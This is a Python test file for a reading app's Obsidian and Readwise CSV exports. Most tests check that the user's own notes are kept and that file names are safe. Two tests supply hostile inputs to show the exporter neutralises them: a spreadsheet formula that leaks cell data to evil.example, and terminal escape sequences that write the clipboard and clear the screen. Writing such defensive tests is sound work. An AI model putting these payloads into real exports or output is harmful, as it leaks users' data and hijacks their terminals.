"""Exports to Obsidian (updates that keep the user's writing) and Readwise's CSV."""

from __future__ import annotations

import csv
import io
from pathlib import Path

from reader.cli import main
from reader.core.interop.exports.obsidian import MARKER
from reader.core.interop.exports.readwise import READWISE_COLUMNS

from ..conftest import SEED


def _marks(capsys) -> None:
    assert main(["bookmarks", "add", str(SEED), "--sentence", "2", "--note",
                 "Zhao's line, \"independent\"", "--tag", "china"]) == 0
    assert main(["bookmarks", "add", str(SEED), "--sentence", "5", "--to", "6"]) == 0
    capsys.readouterr()


def test_obsidian_export_then_edit_then_export_again(tmp_path: Path, capsys) -> None:
    _marks(capsys)
    vault = tmp_path / "vault"
    assert main(["export", "obsidian", str(vault)]) == 0
    assert "1 note written, 0 unchanged" in capsys.readouterr().out
    (note,) = vault.glob("*.md")
    assert note.name.startswith("China claims that its stance")
    text = note.read_text(encoding="utf-8")
    front = text.split("---")[1]
    assert 'title: "China claims' in front and 'tags: ["china"]' in front
    assert "reader-id: 1" in front and "added: 20" in front
    assert "> At a press conference on March 18" in text
    assert "— sentence 2 · #china" in text and "— sentence 5–6" in text
    assert f"[Source]({SEED.resolve().as_uri()})" in text
    assert text.rstrip().endswith(MARKER)
    # The user writes below the marker, edits above it, and renames the file.
    edited = text.replace("## Highlights", "## Highlights (edited)") + "My own thoughts.\n"
    renamed = vault / "My China note.md"
    note.rename(renamed)
    renamed.write_text(edited, encoding="utf-8")
    assert main(["export", "obsidian", str(vault)]) == 0
    assert "1 note written" in capsys.readouterr().out
    again = renamed.read_text(encoding="utf-8")
    assert "## Highlights (edited)" not in again  # reader's part is reader's
    assert again.endswith(MARKER + "\n\nMy own thoughts.\n")  # the user's part is kept
    assert [p.name for p in vault.glob("*.md")] == ["My China note.md"]  # found again
    assert main(["export", "obsidian", str(vault)]) == 0
    assert "0 notes written, 1 unchanged" in capsys.readouterr().out
    # A new highlight updates the note; the user's writing stays.
    assert main(["bookmarks", "add", str(SEED), "--sentence", "9"]) == 0
    assert main(["export", "obsidian", str(vault)]) == 0
    final = renamed.read_text(encoding="utf-8")
    assert "— sentence 9" in final and final.endswith("My own thoughts.\n")
    # A file whose marker the user removed is never overwritten.
    renamed.write_text(final.replace(MARKER, "(mine now)"), encoding="utf-8")
    assert main(["bookmarks", "add", str(SEED), "--sentence", "10"]) == 0
    capsys.readouterr()
    assert main(["export", "obsidian", str(vault)]) == 0
    captured = capsys.readouterr()
    assert "1 left alone" in captured.out and "marker line was removed" in captured.err
    assert "(mine now)" in renamed.read_text(encoding="utf-8")


def test_readwise_csv_reads_back_with_its_columns(tmp_path: Path, capsys) -> None:
    _marks(capsys)
    target = tmp_path / "readwise.csv"
    assert main(["export", "readwise", str(target)]) == 0
    assert "2 highlights written" in capsys.readouterr().out
    rows = list(csv.DictReader(io.StringIO(target.read_text(encoding="utf-8"))))
    assert tuple(rows[0]) == READWISE_COLUMNS
    first = rows[0]
    assert first["Highlight"].startswith("At a press conference on March 18")
    assert first["Title"].startswith("China claims") and first["Location"] == "2"
    assert first["Note"] == "Zhao's line, \"independent\" .china"
    assert first["URL"] == "" and len(first["Date"]) == 19
    assert rows[1]["Location"] == "5" and rows[1]["Note"] == ""


def test_an_edited_article_sends_an_unsure_mark_to_review(tmp_path: Path, capsys) -> None:
    """Marks found again word for word move with the text; a passage that was rewritten is
    held for review with its original quote, never moved silently."""
    from reader.core.anchors import REVIEW_BELOW
    from reader.core.library import Store

    path = tmp_path / "a.txt"
    path.write_text("The harbour opened in May. Gulls gathered on the pier every morning. "
                    "The council voted to extend the quay. Fishermen were pleased.\n",
                    encoding="utf-8")
    assert main(["bookmarks", "add", str(path), "--sentence", "2"]) == 0  # gulls
    assert main(["bookmarks", "add", str(path), "--sentence", "3"]) == 0  # council
    path.write_text("A new first sentence arrives. The harbour opened in May. Gulls gathered "
                    "on the pier every morning. Nobody remembers what the council decided "
                    "about anything at all, frankly. Fishermen were pleased.\n",
                    encoding="utf-8")
    from reader.core.analysis import segment
    from reader.core.library import Library
    from reader.core.sources.files import load_file

    doc = load_file(str(path))
    spans, _ = segment(doc)
    with Store() as st:
        Library(st).register(doc, str(path), spans)  # what opening the edited file does
        gulls, council = sorted(st.marks.list(), key=lambda m: m.id)
    assert gulls.review is None and doc.text[gulls.start:gulls.end].startswith("Gulls")
    assert council.review is not None and council.review < REVIEW_BELOW
    assert council.text == "The council voted to extend the quay."  # the original quote
    assert main(["bookmarks", "list", "--needs-review"]) == 0
    out = capsys.readouterr().out
    assert "NEEDS REVIEW" in out and "council voted" in out and "Gulls" not in out


# --------------------------------------------------------------- the user's writing is sacred
def _export(vault: Path, capsys) -> str:
    code = main(["export", "obsidian", str(vault)])
    captured = capsys.readouterr()
    assert code == 0, captured.err
    return captured.out


def _seed_note(vault: Path) -> Path:
    from reader.core.interop.exports.obsidian import front_matter_id

    (note,) = [p for p in vault.glob("*.md") if front_matter_id(p.read_text("utf-8"))]
    return note


def test_text_typed_on_the_marker_line_is_kept(tmp_path: Path, capsys) -> None:
    _marks(capsys)
    vault = tmp_path / "vault"
    _export(vault, capsys)
    note = _seed_note(vault)
    mine = note.read_text("utf-8").replace(MARKER, MARKER + "  my thoughts\nand more\n")
    note.write_text(mine, encoding="utf-8")
    assert main(["bookmarks", "add", str(SEED), "--sentence", "9"]) == 0
    assert "1 note written" in _export(vault, capsys)
    after = note.read_text("utf-8")
    assert "— sentence 9" in after
    assert after.endswith(mine[mine.index(MARKER):])


def test_a_long_front_matter_still_finds_the_note(tmp_path: Path, capsys) -> None:
    _marks(capsys)
    vault = tmp_path / "vault"
    _export(vault, capsys)
    note = _seed_note(vault)
    text = note.read_text("utf-8")
    # The user (or a plug-in) adds a long field to the front matter: reader-id is far down.
    text = text.replace("---\n", "---\naliases: [" + ", ".join(["x" * 60] * 200) + "]\n", 1)
    note.write_text(text + "Mine.\n", encoding="utf-8")
    assert main(["bookmarks", "add", str(SEED), "--sentence", "9"]) == 0
    _export(vault, capsys)
    assert [p.name for p in vault.glob("*.md")] == [note.name]  # no second copy
    assert note.read_text("utf-8").endswith("Mine.\n")


def test_a_users_file_with_the_fallback_name_is_never_overwritten(tmp_path: Path,
                                                                   capsys) -> None:
    _marks(capsys)
    vault = tmp_path / "vault"
    vault.mkdir()
    stem = "China claims that its stance on the Russia-Ukraine conflict will not change"
    first = vault / f"{stem}.md"
    first.write_text("the user's own note\n", encoding="utf-8")
    second = vault / f"{stem.upper()} (1).md"  # another letter case: the same on macOS
    second.write_text("another of theirs\n", encoding="utf-8")
    _export(vault, capsys)
    assert first.read_text("utf-8") == "the user's own note\n"
    assert second.read_text("utf-8") == "another of theirs\n"
    assert (vault / f"{stem} (2).md").read_text("utf-8").startswith("---\n")


def test_a_note_quoting_the_marker_line_does_not_grow(tmp_path: Path, capsys) -> None:
    assert main(["bookmarks", "add", str(SEED), "--sentence", "2", "--note",
                 f"reader writes this:\n{MARKER}\nthen mine"]) == 0
    capsys.readouterr()
    vault = tmp_path / "vault"
    _export(vault, capsys)
    note = _seed_note(vault)
    first = note.read_text("utf-8")
    assert "\\" + MARKER in first and first.count("\n" + MARKER) == 1
    assert "0 notes written, 1 unchanged" in _export(vault, capsys)
    assert note.read_text("utf-8") == first


def test_file_names_fit_every_file_system(tmp_path: Path, capsys) -> None:
    from reader.core.interop.exports.obsidian import _slug

    bold = "\U0001d401\U0001d41e\U0001d41a\U0001d42d " * 60  # mathematical bold letters
    assert len(_slug(bold).encode("utf-8")) <= 150
    assert _slug("CON") != "CON" and _slug("nul.txt").lower().split(".")[0] != "nul"
    assert not _slug("The end. ").endswith((" ", "."))
    assert _slug("A title\x1b[2J") == "A title 2J"


def test_a_fifo_in_the_vault_does_not_hang_the_export(tmp_path: Path, capsys) -> None:
    import os

    _marks(capsys)
    vault = tmp_path / "vault"
    vault.mkdir()
    os.mkfifo(vault / "pipe.md")
    assert "1 note written" in _export(vault, capsys)


def test_one_note_that_cannot_be_written_does_not_stop_the_others(tmp_path: Path, capsys,
                                                                  monkeypatch) -> None:
    from reader.core.interop.exports import obsidian as exports

    _marks(capsys)
    doc = tmp_path / "other.txt"
    doc.write_text("A second article. It has a sentence worth keeping.\n", encoding="utf-8")
    assert main(["bookmarks", "add", str(doc), "--sentence", "1"]) == 0
    capsys.readouterr()
    real = exports._write_new

    def fail_first(folder, stem, taken, data):
        if stem.startswith("China"):
            raise OSError(36, "File name too long")
        return real(folder, stem, taken, data)

    monkeypatch.setattr(exports, "_write_new", fail_first)
    vault = tmp_path / "vault"
    assert main(["export", "obsidian", str(vault)]) == 1
    captured = capsys.readouterr()
    assert "1 note written" in captured.out and "File name too long" in captured.err
    assert len(list(vault.glob("*.md"))) == 1


def test_obsidian_notes_carry_no_terminal_controls(tmp_path: Path, capsys) -> None:
    assert main(["bookmarks", "add", str(SEED), "--sentence", "2", "--note",
                 "evil \x1b]52;c;aGk=\x07 \x1b[2J"]) == 0
    capsys.readouterr()
    vault = tmp_path / "vault"
    _export(vault, capsys)
    text = _seed_note(vault).read_text("utf-8")
    assert "\x1b" not in text and "\x07" not in text and "␛[2J" in text


def test_readwise_csv_cells_never_run_as_formulas_or_control_the_terminal(capsys) -> None:
    from reader.core.interop.exports.readwise import csv_cell

    assert main(["bookmarks", "add", str(SEED), "--sentence", "2", "--note",
                 '=HYPERLINK("http://evil.example/?leak="&A2,"x")']) == 0
    assert main(["bookmarks", "add", str(SEED), "--sentence", "3", "--note",
                 "@SUM(1+1) \x1b]52;c;aGk=\x07 \x1b[2J"]) == 0
    capsys.readouterr()
    assert main(["export", "readwise", "-"]) == 0
    out = capsys.readouterr().out
    assert "\x1b" not in out and "\x07" not in out
    rows = list(csv.reader(io.StringIO(out)))[1:]
    notes = sorted(r[4] for r in rows)
    assert notes[0].startswith("'=HYPERLINK") and notes[1].startswith("'@SUM")
    for cell in ("-1+2", "+x", "\tx", "\rx"):
        assert csv_cell(cell).startswith("'")
    assert csv_cell("plain words") == "plain words"


def test_obsidian_notes_keep_their_headings_under_the_notes_own(tmp_path: Path,
                                                               capsys) -> None:
    assert main(["bookmarks", "add", str(SEED), "--sentence", "2", "--note",
                 "# My thoughts\nSome words.\n#china stays a tag"]) == 0
    capsys.readouterr()
    vault = tmp_path / "vault"
    assert main(["export", "obsidian", str(vault)]) == 0
    (note,) = vault.glob("*.md")
    lines = note.read_text(encoding="utf-8").splitlines()
    assert "### My thoughts" in lines and "# My thoughts" not in lines
    assert "#china stays a tag" in lines
